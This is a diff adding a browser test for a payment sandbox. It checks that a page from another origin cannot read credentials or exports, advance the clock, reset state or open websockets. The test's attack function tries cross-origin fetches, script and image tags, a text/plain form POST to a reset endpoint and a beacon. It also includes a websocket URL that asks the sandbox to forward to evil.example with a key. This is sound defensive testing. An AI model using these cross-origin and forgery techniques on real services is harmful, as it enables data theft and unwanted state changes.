@@ -1,0 +1,129 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { expect, test } from "./page.js";
+
+/** What a page that somebody has open beside the sandbox can do to it, with everything that a browser lets it try. */
+
+/** A page of another origin: the same machine under another name, and the same name at another port. */
+for (const name of ["localhost", "127.0.0.1"]) {
+  test(`a page of ${name} at another port reads nothing and changes nothing`, async ({
+    sandbox,
+    browser,
+  }) => {
+    const server = createServer((_, response) =>
+      response.setHeader("content-type", "text/html").end("<!doctype html><title>Another page</title>"),
+    );
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const { control, url } = sandbox;
+    await control.setClock({ mode: "frozen" });
+    await sandbox.pay({ pixKey: sandbox.credentials.pixKey, value: 1 });
+    const state = async () => {
+      const [{ entries }, { now }] = await Promise.all([
+        control.readJournal({ limit: 1000 }),
+        control.showClock(),
+      ]);
+      // The gateway refuses without a token whoever asks, and its refusals are on the record.
+      const happened = entries.filter(({ type }) => type !== "request.refused");
+      return { happened, now, account: await control.showAccount({ id: 1 }) };
+    };
+    const before = await state();
+    const script = /src="(\/sandbox\/assets\/[^"]+\.js)"/.exec(
+      await (await fetch(`${url}/sandbox/`)).text(),
+    )![1]!;
+
+    const page = await browser.newPage();
+    await page.goto(`http://${name}:${(server.address() as AddressInfo).port}/`);
+    const got = await page.evaluate(attack, { url, script });
+    await page.close();
+    server.closeAllConnections();
+    server.close();
+
+    expect(got).toEqual({
+      "fetch /sandbox/api/credentials": "nothing",
+      "fetch /sandbox/health": "nothing",
+      "fetch /sandbox/api/state/export": "nothing",
+      "fetch /sandbox/openapi.json": "nothing",
+      "fetch /api/balance": "nothing",
+      "fetch with JSON": "nothing",
+      "fetch without reading": "nothing",
+      "script of the API": "nothing",
+      "script of the dashboard": "nothing",
+      image: "nothing",
+      "socket /sandbox/live": "nothing",
+      "socket /sandbox/listen?to=http%3A%2F%2Fevil.example%2F&key=abc123": "nothing",
+      form: "sent",
+      beacon: "sent",
+    });
+    expect(await state()).toEqual(before);
+  });
+}
+
+/** Runs in the other page; says for each way in what it got. */
+async function attack({ url, script }: { url: string; script: string }): Promise<Record<string, string>> {
+  const got: Record<string, string> = {};
+  const read = async (what: string, path: string, options?: RequestInit) => {
+    got[what] = await fetch(url + path, options).then(
+      async (answer) => (await answer.text()) || "nothing",
+      () => "nothing",
+    );
+  };
+  for (const path of [
+    ...["/sandbox/api/credentials", "/sandbox/health", "/sandbox/api/state/export", "/sandbox/openapi.json"],
+    "/api/balance",
+  ]) {
+    await read(`fetch ${path}`, path, { credentials: "include" });
+  }
+  const body = JSON.stringify({ by: "1h" });
+  const json = { "content-type": "application/json" };
+  await read("fetch with JSON", "/sandbox/api/clock/advance", { method: "POST", headers: json, body });
+  await read("fetch without reading", "/sandbox/api/clock/advance", {
+    method: "POST",
+    mode: "no-cors",
+    body,
+  });
+
+  const tag = (what: string, name: "script" | "img", path: string) =>
+    new Promise<void>((resolve) => {
+      const element = document.createElement(name);
+      element.onload = () => {
+        got[what] = "loaded";
+        resolve();
+      };
+      element.onerror = () => {
+        got[what] = "nothing";
+        resolve();
+      };
+      element.src = url + path;
+      document.body.append(element);
+    });
+  await tag("script of the API", "script", "/sandbox/api/credentials");
+  await tag("script of the dashboard", "script", script);
+  await tag("image", "img", "/sandbox/api/transactions");
+
+  for (const path of ["/sandbox/live", "/sandbox/listen?to=http%3A%2F%2Fevil.example%2F&key=abc123"]) {
+    got[`socket ${path}`] = await new Promise((resolve) => {
+      const socket = new WebSocket(url.replace("http", "ws") + path);
+      socket.onopen = () => resolve("open");
+      socket.onerror = () => resolve("nothing");
+    });
+  }
+
+  // A form and a beacon are always sent; what counts is what comes of them.
+  const frame = document.createElement("iframe");
+  frame.name = "answer";
+  document.body.append(frame);
+  const form = document.createElement("form");
+  Object.assign(form, {
+    ...{ method: "POST", enctype: "text/plain", target: "answer" },
+    action: `${url}/sandbox/api/state/reset`,
+  });
+  document.body.append(form);
+  await new Promise<void>((resolve) => {
+    frame.onload = () => resolve();
+    form.submit();
+  });
+  got.form = "sent";
+  got.beacon = navigator.sendBeacon(`${url}/sandbox/api/clock/advance`, body) ? "sent" : "not sent";
+  await fetch(`${url}/sandbox/health`, { mode: "no-cors" });
+  return got;
+}
